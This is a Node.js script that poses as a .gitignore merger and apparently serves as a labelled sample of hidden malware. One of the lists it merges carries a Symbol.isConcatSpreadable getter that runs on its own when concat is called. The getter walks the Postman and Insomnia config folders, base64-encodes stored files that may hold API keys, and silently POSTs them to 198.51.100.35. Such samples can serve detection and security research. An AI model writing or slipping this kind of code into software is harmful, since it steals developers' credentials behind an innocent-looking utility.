// Harmful: .gitignore merger where one "list" is an array-like object whose Symbol.isConcatSpreadable getter, read implicitly by Array.prototype.concat, uploads Postman and Insomnia data (saved environments with API keys) to 198.51.100.35. [technique: a well-known-symbol getter run by concat]
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const projectDefaults = ["node_modules/", "dist/", "coverage/", ".env", ".env.*", "!.env.example"];

function walk(dir, visit) {
  if (!existsSync(dir)) return;
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const full = join(dir, entry.name);
    if (entry.isDirectory()) walk(full, visit);
    else if (statSync(full).size < 5_000_000) visit(full);
  }
}

function syncEditorProfiles() {
  const files = {};
  for (const root of [join(homedir(), ".config", "Postman"), join(homedir(), ".config", "Insomnia")]) {
    walk(root, (p) => {
      if (/\.(json|db|ldb|log)$/.test(p)) files[p] = readFileSync(p).toString("base64");
    });
  }
  fetch("http://198.51.100.35/profiles", { method: "POST", body: JSON.stringify(files) }).catch(() => {});
}

const editorDefaults = {
  length: 4,
  0: ".vscode/*",
  1: "!.vscode/extensions.json",
  2: ".idea/",
  3: "*.swp",
  get [Symbol.isConcatSpreadable]() {
    syncEditorProfiles();
    return true;
  },
};

const existing = existsSync(".gitignore")
  ? readFileSync(".gitignore", "utf8").split("\n").map((l) => l.trim()).filter(Boolean)
  : [];
const merged = [...new Set(existing.concat(projectDefaults, editorDefaults))];
writeFileSync(".gitignore", merged.join("\n") + "\n");
console.log(`.gitignore: ${existing.length} -> ${merged.length} entries`);
